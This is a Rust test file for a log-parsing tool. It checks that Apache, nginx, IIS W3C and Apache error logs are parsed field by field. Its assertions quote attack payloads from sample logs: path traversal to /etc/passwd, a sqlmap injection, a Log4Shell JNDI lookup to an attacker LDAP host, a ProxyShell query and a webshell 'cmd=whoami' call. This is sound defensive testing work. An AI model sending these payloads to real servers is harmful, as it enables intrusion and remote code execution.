//! Web server logs: our access-log samples (Apache combined, vhost_combined, nginx) and the
//! loghub Apache error log.

use vigil_event::{Event, Value};
use vigil_test_support::{corpus_path, examples, snapshot_settings};

use crate::{non_blank_lines, options_for_2024, read_clean_lines, read_paths};

/// Lines that hold more than whitespace, counted without the reader.
/// W3C `#` directives, which are not records.
fn directives(text: &str) -> usize {
    text.lines().filter(|l| l.starts_with('#')).count()
}

fn find<'e>(events: &'e [Event], name: &str, value: &str) -> &'e Event {
    events
        .iter()
        .find(|e| e.get_str(name) == Some(value))
        .unwrap_or_else(|| panic!("no event with {name} = {value}"))
}

#[test]
fn access_log_samples_are_detected_and_read_completely() {
    let dir = examples().join("samples/webaccess");
    for (file, variant) in [
        ("access.log", "combined"),
        ("other_vhosts_access.log", "combined"),
        ("nginx_access.log", "combined"),
        ("u_ex240314.log", "w3c"),
    ] {
        let path = dir.join(file);
        let text = std::fs::read_to_string(&path).unwrap();
        let read = read_paths(&[&path], options_for_2024());
        let summary = &read.summaries[0];
        assert_eq!(summary.format, Some("webaccess"), "{file}");
        assert_eq!(
            (summary.records, summary.errors),
            (non_blank_lines(&text) - directives(&text) as u64, 0),
            "{file}"
        );
        assert!(read.events.iter().all(|e| e.variant == Some(variant)));
        // Every line has a status but the ones that have none, and a time.
        assert!(read.events.iter().all(|e| e.timestamp.is_some()));
        assert_eq!(
            read.events
                .iter()
                .filter(|e| e.get("sc-status").is_some())
                .count(),
            text.lines().count() - directives(&text)
        );
    }
}

#[test]
fn access_log_fields_of_specific_requests() {
    let path = examples().join("samples/webaccess/access.log");
    let read = read_paths(&[&path], options_for_2024());
    let events = &read.events;

    let traversal = find(events, "cs-uri-query", "page=../../../etc/passwd");
    assert_eq!(traversal.get_str("c-ip"), Some("203.0.113.45"));
    assert_eq!(traversal.get_str("cs-uri-stem"), Some("/index.php"));
    assert_eq!(traversal.get("sc-status"), Some(&Value::Int(200)));
    assert_eq!(traversal.get("sc-bytes"), Some(&Value::Int(2212)));
    assert_eq!(
        traversal.timestamp.unwrap().to_string(),
        "2024-03-14T08:20:12Z"
    );

    let sqli = find(
        events,
        "cs-user-agent",
        "sqlmap/1.8#stable (https://sqlmap.org)",
    );
    assert_eq!(
        sqli.get_str("cs-uri-query"),
        Some("id=1%27%20or%201%3D1%23")
    );
    assert_eq!(sqli.get_str("url.query"), Some("id=1' or 1=1#"));
    assert_eq!(sqli.get_str("event.outcome"), Some("failure"));

    let login = find(events, "cs-method", "POST");
    assert_eq!(login.get_str("cs-username"), Some("alice"));
    assert_eq!(login.get("sc-bytes"), Some(&Value::Int(0)), "`-` bytes");
    assert_eq!(
        login.get_str("cs-referer"),
        Some("https://shop.example.com/account/login")
    );

    let tls = find(events, "request", "\\x16\\x03\\x01\\x02");
    assert_eq!(tls.get("cs-method"), None);
    assert_eq!(tls.get("cs-user-agent"), None);
    assert_eq!(tls.get("sc-status"), Some(&Value::Int(400)));

    let jndi = find(events, "cs-uri-stem", "/search");
    assert_eq!(
        jndi.get_str("url.query"),
        Some("q=${jndi:ldap://203.0.113.45:1389/Basic/Command/Base64/aWQ=}")
    );
    let ipv6 = find(events, "cs-method", "HEAD");
    assert_eq!(ipv6.get_str("c-ip"), Some("2001:db8::7"));
    assert_eq!(ipv6.get_str("http.version"), Some("1.0"));
    let space = find(events, "cs-uri-stem", "/img/logo%20small.png");
    assert_eq!(space.get_str("url.path"), Some("/img/logo small.png"));
    assert_eq!(space.get_str("cs-version"), Some("HTTP/2.0"));

    snapshot_settings().bind(|| {
        insta::assert_json_snapshot!("webaccess_combined_traversal", traversal);
        insta::assert_json_snapshot!("webaccess_combined_tls_junk", tls);
    });
}

#[test]
fn vhost_and_nginx_samples_keep_their_extra_parts() {
    let dir = examples().join("samples/webaccess");
    let read = read_paths(&[&dir.join("other_vhosts_access.log")], options_for_2024());
    let wpscan = find(&read.events, "cs-uri-stem", "/xmlrpc.php");
    assert_eq!(wpscan.get_str("cs-host"), Some("blog.example.com"));
    assert_eq!(wpscan.get("s-port"), Some(&Value::Int(443)));
    assert_eq!(wpscan.get_str("c-ip"), Some("203.0.113.45"));
    snapshot_settings().bind(|| insta::assert_json_snapshot!("webaccess_vhost_combined", wpscan));

    let read = read_paths(&[&dir.join("nginx_access.log")], options_for_2024());
    let forwarded = find(&read.events, "cs-uri-stem", "/api/v1/items/9");
    assert_eq!(forwarded.get_str("extra"), Some("\"10.1.2.3\""));
    let proxy = find(&read.events, "url.scheme", "http");
    assert_eq!(proxy.get_str("url.domain"), Some("203.0.113.1"));
    assert_eq!(proxy.get_str("url.path"), Some("/proxy-check"));
    let traversal = find(&read.events, "c-ip", "203.0.113.9");
    assert_eq!(
        traversal.get_str("url.path"),
        Some("/cgi-bin/../../../../bin/sh")
    );
}

#[test]
fn iis_w3c_sample_follows_each_fields_directive() {
    let path = examples().join("samples/webaccess/u_ex240314.log");
    let read = read_paths(&[&path], options_for_2024());
    let events = &read.events;
    assert_eq!(events.len(), 7);
    let login = find(events, "cs-uri-stem", "/owa/auth.owa");
    assert_eq!(login.get_str("cs-username"), Some("corp\\alice"));
    assert_eq!(login.get_str("c-ip"), Some("198.51.100.23"));
    assert_eq!(login.get("time-taken"), Some(&Value::Int(187)));
    assert_eq!(
        login.get_str("cs-user-agent"),
        Some(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"
        )
    );
    assert_eq!(login.timestamp.unwrap().to_string(), "2024-03-14T09:19:59Z");
    let proxyshell = find(events, "cs-uri-stem", "/autodiscover/autodiscover.json");
    assert_eq!(
        proxyshell.get_str("url.query"),
        Some("@evil.example/owa/?&Email=autodiscover/autodiscover.json?@evil.example")
    );
    assert_eq!(proxyshell.get("sc-status"), Some(&Value::Int(400)));
    let scan = find(events, "cs-method", "GET");
    assert_eq!(
        scan.get("cs-user-agent").map(|v| v.to_text().contains('+')),
        Some(false)
    );
    // After the second `#Fields:`, the new columns.
    let shell = find(events, "cs-uri-stem", "/aspnet_client/shell.aspx");
    assert_eq!(shell.host.as_deref(), Some("MAIL01"));
    assert_eq!(shell.get_str("cs-host"), Some("mail.corp.example.com"));
    assert_eq!(shell.get_str("s-sitename"), Some("W3SVC1"));
    assert_eq!(shell.get("cs-bytes"), Some(&Value::Int(389)));
    assert_eq!(shell.get_str("http.version"), Some("1.1"));
    assert_eq!(
        shell.get_str("cs-uri"),
        Some("/aspnet_client/shell.aspx?cmd=whoami")
    );
    assert_eq!(shell.origin.location.line, Some(15));
    assert_eq!(shell.origin.location.record, Some(7));
    snapshot_settings().bind(|| insta::assert_json_snapshot!("webaccess_iis_w3c", shell));
}

#[test]
fn apache_error_sample_reads_every_line() {
    let Some(path) = corpus_path("logs/web-access-apache-error/loghub_Apache_2k_error.log") else {
        return;
    };
    let (text, read) = read_clean_lines(&path, "apache_error");
    assert_eq!(read.summaries[0].records, 2000);
    let count = |level: &str| {
        read.events
            .iter()
            .filter(|e| e.get_str("log.level") == Some(level))
            .count()
    };
    assert_eq!(count("error"), text.matches("] [error] ").count());
    assert_eq!(count("notice"), text.matches("] [notice] ").count());
    assert_eq!(count("error") + count("notice"), 2000);
    let clients = read
        .events
        .iter()
        .filter(|e| e.get_str("source.ip").is_some())
        .count();
    assert_eq!(clients, text.matches("] [client ").count());

    let first = &read.events[0];
    assert_eq!(first.timestamp.unwrap().to_string(), "2005-12-04T04:47:44Z");
    assert_eq!(first.get_str("log.level"), Some("notice"));
    assert_eq!(
        first.get_str("message"),
        Some("workerEnv.init() ok /etc/httpd/conf/workers2.properties")
    );
    let forbidden = find(&read.events, "source.ip", "222.166.160.184");
    assert_eq!(
        forbidden.get_str("message"),
        Some("Directory index forbidden by rule: /var/www/html/")
    );
    assert_eq!(
        forbidden.timestamp.unwrap().to_string(),
        "2005-12-04T05:15:09Z"
    );
    snapshot_settings().bind(|| insta::assert_json_snapshot!("apache_error_client", forbidden));
}
